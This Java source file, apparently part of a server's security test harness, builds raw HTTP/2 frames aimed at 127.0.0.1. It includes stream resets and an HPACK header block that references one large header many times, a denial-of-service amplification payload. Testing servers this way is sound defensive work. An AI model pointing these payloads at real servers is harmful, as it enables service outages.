package io.kalends.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Frames of HTTP/2, one after the other as they are to be sent. */
final class Frames {
    static final int DATA = 0;
    static final int HEADERS = 1;
    static final int RESET = 3;
    static final int SETTINGS = 4;
    static final int PING = 6;
    static final int WINDOW = 8;
    static final int CONTINUATION = 9;

    static final int END_STREAM = 1;
    static final int END_HEADERS = 4;

    static final int INITIAL_WINDOW = 4;

    /** The latest entry of the table that both sides keep of headers. */
    private static final int NEWEST = 62;

    private static final int CANCEL = 8;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    /** How a connection begins, with one setting. */
    static Frames opening(int setting, int value) {
        var frames = new Frames();
        frames.out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        return frames.settings(setting, value);
    }

    Frames add(int type, int flags, int stream, byte... content) {
        ByteBuffer head = ByteBuffer.allocate(9);
        head.put((byte) (content.length >> 16)).putShort((short) content.length);
        head.put((byte) type).put((byte) flags).putInt(stream);
        out.writeBytes(head.array());
        out.writeBytes(content);
        return this;
    }

    Frames settings(int setting, int value) {
        return add(
                SETTINGS,
                0,
                0,
                ByteBuffer.allocate(6).putShort((short) setting).putInt(value).array());
    }

    Frames ping() {
        return add(PING, 0, 0, new byte[8]);
    }

    Frames reset(int stream) {
        return add(RESET, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
    }

    /** A request, complete. */
    Frames get(int stream, String path) {
        return add(HEADERS, END_STREAM | END_HEADERS, stream, request("GET", path));
    }

    byte[] bytes() {
        return out.toByteArray();
    }

    /** The head of a request, and as many further headers as wanted: each a name and a value. */
    static byte[] request(String method, String path, String... more) {
        var block = new ByteArrayOutputStream();
        literal(block, 0, ":method", method);
        literal(block, 0, ":scheme", "http");
        literal(block, 0, ":path", path);
        literal(block, 0, ":authority", "127.0.0.1");
        for (int i = 0; i < more.length; i += 2) literal(block, 0, more[i], more[i + 1]);
        return block.toByteArray();
    }

    /** A header. */
    static byte[] header(String name, String value) {
        var block = new ByteArrayOutputStream();
        literal(block, 0, name, value);
        return block.toByteArray();
    }

    /** The head of a request with one large header that is meant many times: each time takes one byte. */
    static byte[] repeated(String path, int size, int times) {
        var block = new ByteArrayOutputStream();
        block.writeBytes(request("GET", path));
        literal(block, 0x40, "x-large", "x".repeat(size));
        for (int i = 0; i < times; i++) block.write(0x80 | NEWEST);
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, int kind, String name, String value) {
        block.write(kind);
        text(block, name);
        text(block, value);
    }

    private static void text(ByteArrayOutputStream block, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        int length = bytes.length;
        if (length < 127) block.write(length);
        else {
            block.write(127);
            for (length -= 127; length >= 128; length >>= 7) block.write((length & 127) | 128);
            block.write(length);
        }
        block.writeBytes(bytes);
    }
}
